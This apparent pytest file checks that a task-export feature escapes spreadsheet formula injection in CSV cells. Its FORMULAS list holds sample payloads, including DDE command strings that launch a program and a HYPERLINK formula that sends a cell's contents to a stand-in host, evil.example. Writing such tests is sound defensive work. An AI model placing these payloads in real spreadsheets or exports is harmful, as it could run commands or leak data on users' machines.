"""Cells that a spreadsheet would run as formulas."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.exports.asking import asked, rows
from tests.kit.app import Person
from tests.tasks.making import make, make_project
from upnext.core.cells import guarded, unguarded

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1;"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_cell_begins_a_formula(person: Person, formula: str) -> None:
    project = await make_project(person, name=formula)
    await make(
        person,
        title=formula,
        description=formula,
        category=formula[:50],
        tags=[formula[:50]],
        external_id=formula,
        project_id=project["id"],
    )
    (row,) = await rows(person)
    assert [cell for cell in row.values() if cell.startswith(DANGEROUS)] == []
    for column in ("title", "description", "external_id", "project"):
        assert row[column] == f"'{formula}"
        assert unguarded(row[column]) == formula
    assert row["category"] == f"'{formula[:50]}"


async def test_quotes_commas_and_lines_stay_in_their_cell(person: Person) -> None:
    title, description = 'He said "no", then; left', 'One\nTwo, "three"\n\nFour'
    await make(person, title=title, description=description)
    (row,) = await rows(person)
    assert (row["title"], row["description"]) == (title, description)
    content = (await asked(person, "csv")).content
    assert content.startswith(b"key,title,status,")
    assert content.endswith(b"\r\n")
    # Line breaks inside of a cell are as they were typed; each row ends as RFC 4180 has it.
    assert content.count(b"\r\n") == 2


def test_what_is_harmless_is_left_alone() -> None:
    for cell in ("", "Pay", "'tis", "1", "a=b", "90", "2030-01-01T00:00:00Z", "'quoted'"):
        assert guarded(cell) == cell == unguarded(cell)


@given(st.text(alphabet=st.sampled_from([*DANGEROUS, "'", "a", '"', ","])))
def test_guarding_is_undone_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(DANGEROUS)


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
                .map(guarded), min_size=2))  # fmt: skip
def test_every_text_survives_the_csv(cells: list[str]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerow(cells)
    assert next(csv.reader(io.StringIO(text.getvalue(), newline=""), strict=True)) == cells
